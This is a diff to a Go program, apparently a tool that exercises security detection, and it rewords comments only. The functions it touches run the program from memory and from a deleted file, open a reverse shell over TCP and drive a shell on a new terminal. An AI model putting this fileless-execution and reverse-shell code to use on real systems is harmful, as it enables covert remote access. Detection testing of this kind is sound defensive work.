@@ -16,7 +16,7 @@ import (
 
 const droppedPath = "/tmp/dropped"
 
-// execFromMemory executes a copy of this program that never was in a directory.
+// execFromMemory executes a copy of this program that exists only in memory.
 func execFromMemory(args []string) error {
 	fd, err := unix.MemfdCreate("payload", unix.MFD_CLOEXEC)
 	if err != nil {
@@ -29,7 +29,7 @@ func execFromMemory(args []string) error {
 	return execAs(fmt.Sprintf("/proc/self/fd/%d", fd), "payload", args)
 }
 
-// execFromDeletedFile executes a copy of this program after its last name is gone.
+// execFromDeletedFile executes a copy of this program after its file was deleted.
 func execFromDeletedFile(args []string) error {
 	const path = "/tmp/.deleted"
 	if err := writeSelfTo(path); err != nil {
@@ -73,7 +73,7 @@ func copyExecutable(to io.Writer) error {
 	return nil
 }
 
-// execAs executes the file at path, called name, with a command of this program, "wait" if none is given.
+// execAs executes the file at path under a name, with a command of this program ("wait" by default).
 func execAs(path, name string, args []string) error {
 	if len(args) == 0 {
 		args = []string{"wait"}
@@ -81,7 +81,7 @@ func execAs(path, name string, args []string) error {
 	return fmt.Errorf("execute %s: %w", path, syscall.Exec(path, append([]string{name}, args...), os.Environ()))
 }
 
-// testReverseShell connects and becomes a shell whose input and output are the connection.
+// testReverseShell connects and executes a shell whose input and output are the connection.
 func runReverseShell(address string) error {
 	to, err := net.ResolveTCPAddr("tcp4", address)
 	if err != nil {
@@ -104,7 +104,7 @@ func runReverseShell(address string) error {
 	return fmt.Errorf("execute /bin/sh: %w", syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()))
 }
 
-// testTerminalShell runs a shell on a terminal of its own and types lines into it.
+// testTerminalShell runs a shell on a new terminal and types lines into it.
 func runTerminalShell(lines []string) error {
 	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
 	if err != nil {
@@ -128,7 +128,7 @@ func runTerminalShell(lines []string) error {
 		return fmt.Errorf("start /bin/sh: %w", err)
 	}
 	terminal.Close()
-	// The shell's output ends with an error when the terminal is closed; its own end is what counts.
+	// The shell's output ends with an error when the terminal is closed; only the shell's exit matters.
 	go func() { _, _ = io.Copy(os.Stdout, master) }()
 	if len(lines) > 0 {
 		if _, err := master.WriteString(strings.Join(lines, "\n") + "\n"); err != nil {
